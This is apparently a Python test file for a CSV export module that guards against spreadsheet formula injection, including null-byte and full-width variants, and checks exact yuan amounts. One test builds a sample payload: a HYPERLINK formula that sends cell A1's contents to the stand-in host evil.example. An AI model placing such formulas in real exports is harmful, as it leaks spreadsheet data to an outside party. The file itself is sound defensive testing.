"""T51: what people take away into a spreadsheet is text and numbers; nothing that somebody wrote is calculated there."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from kit.coverage import covers
from kit.sheets import Cell, csv_rows, harmless, yuan_cell

calm = settings(deadline=None, suppress_health_check=list(HealthCheck), derandomize=True, database=None)
#: What a spreadsheet calculates from, after the signs it skips.
STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\x00", "＝", "＋", "－", "＠")


def calculated(row: list[str]) -> list[str]:
    """The text cells of a row that a spreadsheet would calculate; numbers are numbers."""
    texts = [cell for cell in row if not cell.removeprefix("-").replace(".", "", 1).isdigit()]
    return [cell for cell in texts if cell.startswith(STARTS) or cell.replace("\x00", "").startswith(STARTS)]


def read(lines: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(lines.removeprefix("\ufeff"), newline="")))


def naive(heads: list[str], rows: list[list[Cell]]) -> str:
    """The naive variant: quoted properly, and calculated by every spreadsheet."""
    out = io.StringIO()
    csv.writer(out, lineterminator="\r\n").writerows([heads, *rows])
    return out.getvalue()


@covers("T51")
@pytest.mark.parametrize("start", STARTS)
def test_a_cell_that_begins_like_a_formula_is_text(start: str) -> None:
    attack = f"{start}HYPERLINK(\"http://evil.example/?\"&A1,\"open\")"
    table = "".join(csv_rows([attack], [[attack, 1]]))
    assert not any(calculated(row) for row in read(table))
    assert any(calculated(row) for row in read(naive([attack], [[attack, 1]]))), "the naive table is calculated"


@covers("T51")
def test_a_negative_number_in_a_column_of_numbers_stays_a_number() -> None:
    table = read("".join(csv_rows(["金额（元）", "说明"], [[yuan_cell(-120_005), "-1 元退款"], [-3, "港口"]])))
    assert table == [["金额（元）", "说明"], ["-1200.05", "'-1 元退款"], ["-3", "港口"]]


@covers("T51")
def test_a_zero_byte_before_a_formula_does_not_hide_it() -> None:
    assert harmless("\x00=1+1") == "'=1+1" and "\x00" not in harmless("a\x00b")


@covers("T51")
@calm
@given(st.lists(st.text(max_size=40), min_size=1, max_size=5))
def test_whatever_is_written_comes_back_as_itself_or_with_an_apostrophe_before_it(texts: list[str]) -> None:
    lines = list(csv_rows(["a"], [texts]))
    assert len(lines) == 2
    back = next(csv.reader(io.StringIO(lines[1], newline="")), [])
    assert back == [harmless(text) for text in texts] or texts == [""]
    assert not calculated(back)


@covers("T51")
@calm
@given(st.integers(-(10**15), 10**15))
def test_yuan_in_a_cell_is_exact(fen: int) -> None:
    assert yuan_cell(fen) * 100 == Decimal(fen)
